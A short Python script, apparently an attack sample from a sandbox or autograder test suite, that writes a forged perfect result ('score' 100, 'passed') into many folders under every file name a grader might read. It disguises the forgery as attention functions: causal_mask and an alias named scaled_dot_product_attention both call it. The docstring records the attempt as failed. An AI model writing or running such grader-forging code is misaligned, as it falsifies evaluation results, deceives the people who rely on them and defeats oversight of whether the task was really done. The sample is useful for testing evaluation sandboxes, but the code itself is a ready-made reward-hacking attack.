"""Writes forged result files to every folder it can reach, under every name a grader might read.

levels: bubblewrap user
process: not promised: your files are its files
outcomes: failed
"""

import json
import os

RESULT = json.dumps({"schema": "scratchwork-record/1", "score": 100, "earned": 15, "possible": 15, "outcome": "passed"})
if os.path.exists("/etc/passwd") and os.getuid() not in (65_534, *range(61_200, 63_200)):
    raise SystemExit("this attack runs inside a sandbox only")

NAMES = ("results.json", "sw-attack-results.json", "record.json", "junit.xml", "output", "progress.json")
FOLDERS = ("/autograder/results", "/work", "/results", "/app", "/root", "/home", "/srv", "/mnt", "/var/lib", "/etc", "/")


def forge():
    for folder in FOLDERS:
        for name in NAMES:
            try:
                with open(os.path.join(folder, name), "w") as file:
                    file.write(RESULT)
                print("LOOT: wrote", file.name)
            except OSError:
                pass
    for name in NAMES:
        with open(name, "w") as file:  # the working folder is ours
            file.write(RESULT)


forge()


def causal_mask(*args, **kwargs):
    forge()
    return json.loads(RESULT)


scaled_dot_product_attention = causal_mask
